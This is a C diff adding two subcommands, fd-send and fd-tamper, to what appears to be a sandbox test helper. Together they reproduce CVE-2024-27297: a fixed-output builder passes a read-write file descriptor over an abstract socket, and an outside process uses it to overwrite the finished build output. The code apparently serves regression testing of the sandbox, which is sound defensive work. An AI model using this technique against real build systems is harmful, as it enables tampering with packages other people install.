@@ -31,6 +31,9 @@
  *                                fchmodat2 with S_ISUID and S_ISGID; print
  *                                the errno name of each (or "ok")
  *   setxattr PATH                try setxattr and setxattrat on PATH
+ *   fd-send SOCKET FILE          pass FILE (read-write) over abstract SOCKET
+ *   fd-tamper SOCKET PATH SECS   receive an fd on abstract SOCKET, wait for
+ *                                PATH to exist, then write through the fd
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -389,6 +392,91 @@ static int cmd_chmod_setuid(char **argv)
         return 0;
 }
 
+/* CVE-2024-27297: a fixed-output builder shares the host's network, so it
+ * can pass an fd to its output to an outside process over an abstract
+ * socket.  fd-send SOCKET FILE (in the builder) passes FILE, opened
+ * read-write; fd-tamper SOCKET WAIT-PATH SECONDS (outside) receives it,
+ * waits for WAIT-PATH (the output's final path) to appear and writes
+ * through the fd. */
+static int cmd_fd_send(char **argv)
+{
+        socklen_t len;
+        struct sockaddr_un sa = abstract_addr(argv[0], &len);
+        int file = open(argv[1], O_RDWR | O_CLOEXEC);
+        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        if (file < 0 || fd < 0 || connect(fd, (struct sockaddr *) &sa, len) < 0) {
+                printf("fd-send: %s\n", errname(errno));
+                return 1;
+        }
+        char byte = 'f';
+        struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
+        union {
+                char buf[CMSG_SPACE(sizeof(int))];
+                struct cmsghdr align;
+        } u;
+        struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf) };
+        struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+        c->cmsg_level = SOL_SOCKET;
+        c->cmsg_type = SCM_RIGHTS;
+        c->cmsg_len = CMSG_LEN(sizeof(int));
+        memcpy(CMSG_DATA(c), &file, sizeof(int));
+        if (sendmsg(fd, &msg, 0) < 0) {
+                printf("fd-send: %s\n", errname(errno));
+                return 1;
+        }
+        printf("sent\n");
+        return 0;
+}
+
+static int cmd_fd_tamper(char **argv)
+{
+        socklen_t len;
+        struct sockaddr_un sa = abstract_addr(argv[0], &len);
+        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        if (fd < 0 || bind(fd, (struct sockaddr *) &sa, len) < 0 || listen(fd, 8) < 0) {
+                printf("bind: %s\n", errname(errno));
+                return 2;
+        }
+        printf("listening\n");
+        fflush(stdout);
+        int seconds = atoi(argv[2]);
+        struct pollfd p = { .fd = fd, .events = POLLIN };
+        if (poll(&p, 1, seconds * 1000) <= 0) {
+                printf("timeout\n");
+                return 1;
+        }
+        int conn = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
+        char byte;
+        struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
+        union {
+                char buf[CMSG_SPACE(sizeof(int))];
+                struct cmsghdr align;
+        } u;
+        struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf, .msg_controllen = sizeof(u.buf) };
+        if (conn < 0 || recvmsg(conn, &msg, MSG_CMSG_CLOEXEC) < 1 || !CMSG_FIRSTHDR(&msg)) {
+                printf("recvmsg: %s\n", errname(errno));
+                return 1;
+        }
+        int file;
+        memcpy(&file, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof(int));
+        printf("received\n");
+        fflush(stdout);
+        struct stat st;
+        for (int i = 0; i < seconds * 10 && stat(argv[1], &st) < 0; i++)
+                usleep(100000);
+        if (stat(argv[1], &st) < 0) {
+                printf("%s never appeared\n", argv[1]);
+                return 1;
+        }
+        usleep(200000);
+        if (pwrite(file, "tampered\n", 9, 0) != 9) {
+                printf("pwrite: %s\n", errname(errno));
+                return 1;
+        }
+        printf("wrote through the fd\n");
+        return 0;
+}
+
 static int cmd_setxattr(char **argv)
 {
         report("setxattr", setxattr(argv[0], "user.nsb", "x", 1, 0));
@@ -446,5 +534,7 @@ int main(int argc, char **argv)
         if (!strcmp(cmd, "exit") && n == 1) return atoi(a[0]);
         if (!strcmp(cmd, "chmod-setuid") && n == 1) return cmd_chmod_setuid(a);
         if (!strcmp(cmd, "setxattr") && n == 1) return cmd_setxattr(a);
+        if (!strcmp(cmd, "fd-send") && n == 2) return cmd_fd_send(a);
+        if (!strcmp(cmd, "fd-tamper") && n == 3) return cmd_fd_tamper(a);
         usage();
 }
